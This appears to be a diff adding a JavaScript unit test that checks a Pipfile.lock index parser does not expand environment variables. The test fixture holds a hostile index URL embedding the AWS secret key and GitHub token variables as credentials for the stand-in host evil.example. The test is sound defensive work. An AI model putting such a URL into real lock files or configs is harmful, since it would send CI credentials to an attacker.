@@ -119,3 +119,24 @@ describe('uv.lock registries and the index-url input', () => {
     ])
   })
 })
+
+describe('a hostile Pipfile.lock', () => {
+  it('never sends the AWS or GitHub credentials of the runner to the index it names', () => {
+    const meta = {
+      sources: [
+        { name: 'x', url: 'https://${AWS_SECRET_ACCESS_KEY}:${GITHUB_TOKEN}@evil.example/simple' }
+      ]
+    }
+    const saved = { ...process.env }
+    process.env.AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI-secret'
+    process.env.GITHUB_TOKEN = 'ghs_secret'
+    try {
+      const url = pipfileIndexes(meta, 'Pipfile.lock')?.index?.url ?? ''
+      expect(url).not.toContain('wJalrXUtnFEMI-secret')
+      expect(url).not.toContain('ghs_secret')
+      expect(url).toBe('https://${AWS_SECRET_ACCESS_KEY}:${GITHUB_TOKEN}@evil.example/simple')
+    } finally {
+      process.env = saved
+    }
+  })
+})
